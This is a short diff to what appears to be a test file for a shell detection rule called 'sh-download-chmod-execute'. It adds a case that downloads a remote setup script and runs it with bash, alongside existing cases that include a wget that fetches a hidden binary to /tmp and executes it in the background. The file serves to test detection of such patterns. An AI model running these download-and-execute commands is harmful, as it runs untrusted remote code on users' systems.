@@ -59,6 +59,8 @@ wget -q http://198.51.100.4/agent -O /tmp/.a && chmod +x /tmp/.a && /tmp/.a &
 # ruleid: sh-download-chmod-execute
 curl -sSLo /usr/local/bin/tool https://x.example/tool
 chmod 755 /usr/local/bin/tool
+# ruleid: sh-download-chmod-execute
+curl -fsSL https://x.example/setup.sh -o /tmp/setup.sh && bash /tmp/setup.sh
 # ok: sh-download-chmod-execute
 curl -fsSLo /tmp/protoc.zip https://x.example/protoc.zip
 echo "abc  /tmp/protoc.zip" | sha256sum -c -
